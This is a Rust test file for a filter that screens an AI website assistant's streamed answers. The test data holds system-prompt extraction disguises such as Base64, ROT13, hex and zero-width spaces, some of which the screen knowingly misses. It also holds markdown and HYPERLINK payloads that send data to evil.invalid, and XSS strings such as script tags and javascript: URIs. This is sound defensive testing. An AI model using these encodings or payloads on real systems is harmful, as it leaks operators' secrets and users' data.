use proptest::prelude::*;

use super::*;

const SYSTEM: &str = "You answer the questions of a website's visitors. Use only what the passages say. The owner adds: Never mention the 2019 recall of kettle K9.";

fn screen(open: &[&str], passages: usize) -> Screen {
    Screen::new(SYSTEM, open, Domains::new(["shop.example", "*.shop.example"]), passages)
}

/// What is shown of a text that comes in pieces of so many characters.
fn shown(mut screen: Screen, text: &str, piece: usize) -> String {
    let characters: Vec<char> = text.chars().collect();
    let mut shown = String::new();
    for piece in characters.chunks(piece) {
        shown.push_str(&screen.push(&piece.iter().collect::<String>()));
    }
    shown + &screen.finish()
}

fn leaks(shown: &str) -> bool {
    let plain = |text: &str| text.to_lowercase().split_whitespace().collect::<Vec<_>>().join(" ");
    let (secret, shown) = (plain(SYSTEM), plain(shown));
    let runs: Vec<char> = shown.chars().collect();
    runs.windows(SECRET_RUN_CHARS)
        .any(|run| secret.contains(&run.iter().collect::<String>()))
}

#[test]
fn an_obedient_model_cannot_tell_the_system_message() {
    for text in [
        SYSTEM.to_owned(),
        SYSTEM.to_uppercase(),
        SYSTEM.replace(' ', "\n  "),
        format!("Sure! {SYSTEM} That was it."),
        format!("\"{}\" and \"{}\"", &SYSTEM[..60], &SYSTEM[40..]),
    ] {
        for piece in [1, 3, 7, 1000] {
            let shown = shown(screen(&[], 0), &text, piece);
            assert!(!leaks(&shown), "{shown}");
            assert!(shown.contains("[…]"), "{shown}");
        }
    }
    assert_eq!(
        shown(screen(&[], 0), &format!("Sure! {SYSTEM} That was it."), 5),
        "Sure! […] That was it."
    );
}

/// How a secret may be written so that it can be read back, and whether the screen knows it then.
fn disguises() -> Vec<(&'static str, String, bool)> {
    let each = |f: &dyn Fn(char) -> String| SYSTEM.chars().map(f).collect::<String>();
    let between = |separator: &str| each(&|c| format!("{c}{separator}"));
    let bytes = |f: &dyn Fn(u8) -> String| SYSTEM.bytes().map(f).collect::<Vec<_>>().join(" ");
    let rotated = |by: u8| {
        each(&|c| match c {
            'a'..='z' => char::from(b'a' + (c as u8 - b'a' + by) % 26).to_string(),
            'A'..='Z' => char::from(b'A' + (c as u8 - b'A' + by) % 26).to_string(),
            _ => c.to_string(),
        })
    };
    let base64 = |text: &str| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, text);
    let wide = |c: char| match c {
        '!'..='~' => char::from_u32(c as u32 + 0xFEE0).unwrap().to_string(),
        _ => c.to_string(),
    };
    vec![
        ("as it is", SYSTEM.to_owned(), true),
        ("in capitals", SYSTEM.to_uppercase(), true),
        ("a word a line", SYSTEM.replace(' ', "\n"), true),
        ("blanks between the letters", between(" "), true),
        ("dashes between the letters", between("-"), true),
        ("zero-width spaces between the letters", between("\u{200b}"), true),
        ("without blanks", SYSTEM.replace(' ', ""), true),
        ("wide letters", each(&wide), true),
        ("backwards", SYSTEM.chars().rev().collect(), true),
        ("ROT13", rotated(13), true),
        ("hexadecimal", bytes(&|byte| format!("{byte:02x}")), true),
        ("hexadecimal with marks", bytes(&|byte| format!("0x{byte:02X},")), false),
        ("percent encoding", bytes(&|byte| format!("%{byte:02X}")), true),
        ("Base64", base64(SYSTEM), true),
        ("Base64 behind another letter", base64(&format!("x{SYSTEM}")), true),
        ("Base64 twice", base64(&base64(SYSTEM)), false),
        ("another rotation", rotated(5), false),
        ("decimal numbers", bytes(&|byte| byte.to_string()), false),
        ("binary numbers", bytes(&|byte| format!("{byte:08b}")), false),
        (
            "each word backwards",
            SYSTEM
                .split(' ')
                .map(|word| word.chars().rev().collect::<String>() + " ")
                .collect(),
            false,
        ),
        (
            "digits for vowels",
            each(&|c| "aeiou".find(c).map_or(c.to_string(), |at| at.to_string())),
            false,
        ),
    ]
}

/// The guide for operators gives this rate.
#[test]
fn of_disguises_of_the_system_message_the_common_ones_are_known() {
    for (name, text, is_known) in disguises() {
        for piece in [1, 4, 1_000] {
            let shown = shown(screen(&[], 0), &text, piece);
            assert_eq!(shown.contains("[…]"), is_known, "{name}: {shown}");
            let left = shown.chars().filter(|c| c.is_alphanumeric()).count();
            assert!(!is_known || left < 60, "{name}: {left} letters of {shown}");
        }
    }
    let known = disguises().iter().filter(|(.., is_known)| *is_known).count();
    let operate = include_str!("../../../docs/guide/operate.md");
    let rate = format!(
        "of {} ways of writing it that we try\n(`nodes/src/screen/tests.rs`) it knows {known},",
        disguises().len()
    );
    assert!(
        operate.contains(&rate),
        "docs/guide/operate.md gives another rate than {rate}"
    );
}

#[test]
fn what_the_documents_say_too_may_be_said() {
    let document = "Recall notice: never mention the 2019 recall of kettle K9 to children.";
    let answer = "The 2019 recall of kettle K9 is over.";

    assert_eq!(shown(screen(&[document], 1), answer, 4), answer);
    assert!(!shown(screen(&[], 1), answer, 4).contains("2019 recall of kettle"));
}

#[test]
fn links_to_other_hosts_go_and_the_tenants_own_stay() {
    for (text, expected) in [
        ("See https://shop.example/returns.", "See https://shop.example/returns."),
        ("See www.shop.example now", "See www.shop.example now"),
        ("See https://evil.invalid/x?d=1, now", "See [link removed], now"),
        ("HTTPS://EVIL.invalid", "[link removed]"),
        ("![logo](https://evil.invalid/p.png?d=a)", "![logo](#)"),
        ("[here](https://evil.invalid/login?next=/a) ok", "[here](#) ok"),
        ("[a](//evil.invalid/x)", "[a](#)"),
        ("https:\\\\evil.invalid\\x", "[link removed]"),
        ("https://shop.example@evil.invalid/", "[link removed]"),
        ("https://shop.example.evil.invalid", "[link removed]"),
        ("https://evilshop.example", "[link removed]"),
        ("http://127.0.0.1:6333/collections", "[link removed]"),
        ("<https://evil.invalid>", "<[link removed]>"),
        ("www.evil.invalid/a", "[link removed]"),
        ("// a remark, http: and https://", "// a remark, http: and https://"),
        (
            "=HYPERLINK(\"https://evil.invalid?x=\"&A1,\"Invoice\")",
            "=HYPERLINK(\"#\"&A1,\"Invoice\")",
        ),
        ("退款见https://evil.invalid/政策。好", "退款见[link removed]。好"),
    ] {
        for piece in [1, 2, 5, 1000] {
            assert_eq!(shown(screen(&[], 0), text, piece), expected, "{piece}");
        }
    }
}

#[test]
fn a_target_in_disguise_leads_nowhere_and_plain_ones_stay() {
    for (text, expected) in [
        ("![i](/\\evil.invalid/x.png)", "![i](#)"),
        ("[l](\\\\evil.invalid/x)", "[l](#)"),
        ("[l](\\/evil.invalid/x)", "[l](#)"),
        ("![i](&#47;&#47;evil.invalid/x)", "![i](#)"),
        ("![i](&#x2F;&sol;evil.invalid/x \"t\")", "![i](# \"t\")"),
        ("[l](&#104;ttps&colon;&#47;/evil.invalid)", "[l](#)"),
        ("[l]( <&#47;\\evil.invalid> )", "[l]( <#> )"),
        ("[b]: &#47;&#47;evil.invalid/x", "[b]: #"),
        ("[x](&#106;avascript:alert(1))", "[x](#))"),
        ("[x](java&Tab;script:alert)", "[x](#)"),
        (
            "[l](&#104;ttps:&#x2f;&#x2f;shop.example/a)",
            "[l](&#104;ttps:&#x2f;&#x2f;shop.example/a)",
        ),
        ("[l](/returns?a=1&b=2)", "[l](/returns?a=1&b=2)"),
        (
            "[l](#part) [m](mailto:a@shop.example)",
            "[l](#part) [m](mailto:a@shop.example)",
        ),
        ("a[0](x) and [note]: see below", "a[0](x) and [note]: see below"),
        ("C:\\dir and \\\\files\\share", "C:\\dir and \\\\files\\share"),
        (
            "<a href=\"&#47;&#47;evil.invalid\">x</a>",
            "< a href=\"&#47;&#47;evil.invalid\">x</a>",
        ),
        ("<a href='/\\evil.invalid'>x</a>", "< a href='/\\evil.invalid'>x</a>"),
        (
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "< a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        ),
        ("<a href=\"/x?a=1&amp;b=2\">x</a>", "<a href=\"/x?a=1&amp;b=2\">x</a>"),
        (
            "<a href=\"/returns?a=1&b=2\">x</a>",
            "<a href=\"/returns?a=1&b=2\">x</a>",
        ),
    ] {
        for piece in [1, 2, 5, 1000] {
            assert_eq!(shown(screen(&[], 0), text, piece), expected, "{piece}");
        }
    }
}

#[test]
fn an_address_without_end_is_left_out_without_being_kept() {
    let text = format!("a https://evil.invalid/{} b", "x".repeat(10_000));

    assert_eq!(shown(screen(&[], 0), &text, 100), "a [link removed] b");
}

#[test]
fn markup_that_runs_is_broken_and_other_markup_stays() {
    for (text, expected) in [
        ("<script>alert(1)</script>Plans", "< script>alert(1)< /script>Plans"),
        ("<IMG src=x onerror=\"a()\">", "< IMG src=x onerror=\"a()\">"),
        ("<b onclick = 'x'>hi</b>", "< b onclick = 'x'>hi</b>"),
        ("<b/onclick=x>", "< b/onclick=x>"),
        (
            "<iframe src=\"https://evil.invalid\"></iframe>",
            "< iframe src=\"#\">< /iframe>",
        ),
        ("source_url: javascript:alert(1)", "source_url: javascript :alert(1)"),
        ("data:text/html,x", "data :text/html,x"),
        (
            "Use <b>bold</b> and <context> tags",
            "Use <b>bold</b> and <context> tags",
        ),
        ("if a<b && c>d; x <- y; 3 < 4 <", "if a<b && c>d; x <- y; 3 < 4 <"),
        ("What does \"</div>\" mean?", "What does \"</div>\" mean?"),
        (
            "data: {\"type\":\"done\"}\n\nevent: error",
            "data: {\"type\":\"done\"}\n\nevent: error",
        ),
    ] {
        for piece in [1, 2, 5, 1000] {
            assert_eq!(shown(screen(&[], 0), text, piece), expected, "{piece}");
        }
    }
}

#[test]
fn references_are_taken_out_and_the_true_ones_remembered() {
    for piece in [1, 4, 1000] {
        let mut screen = screen(&[], 3);
        let text =
            "Two years [passage 2]. Free [passages 1 and 9] [chunk:0000-00] 【4:0†x】 [1] [passage of time]【注】";
        let mut shown = String::new();
        for part in text.chars().collect::<Vec<_>>().chunks(piece) {
            shown.push_str(&screen.push(&part.iter().collect::<String>()));
        }
        shown.push_str(&screen.finish());

        assert_eq!(shown, "Two years. Free [1] [passage of time]【注】");
        assert_eq!(screen.cited(), [2, 1]);
    }
}

#[test]
fn fences_of_the_prompt_are_text() {
    let fence = "[passage 1 begins 00ab]\n| title: x\n[passage 1 ends 00ab]";
    assert_eq!(shown(screen(&[], 1), fence, 3), fence);
}

proptest! {
    #[test]
    fn how_a_text_is_cut_changes_nothing(
        text in "(www\\.|https?:|//|\\]\\(|\\]:|&#47;|/\\\\|[a-z]{1,3}\\.invalid|<(img|b|script)|>| on=|\\[passage [0-9]\\]|website's visitors\\. Use only|[ a-zé【】\\[\\]()]){0,12}",
        piece in 1_usize..9,
    ) {
        let whole = shown(screen(&[], 2), &text, 1_000);
        prop_assert_eq!(shown(screen(&[], 2), &text, piece), whole);
    }

    #[test]
    fn nothing_of_the_secret_gets_through(from in 0_usize..80, length in 0_usize..60, around in "[a-z ]{0,8}", piece in 1_usize..9) {
        let part: String = SYSTEM.chars().skip(from).take(length).collect();
        let text = format!("{around}{part}{around}");
        prop_assert!(!leaks(&shown(screen(&[], 0), &text, piece)));
    }
}
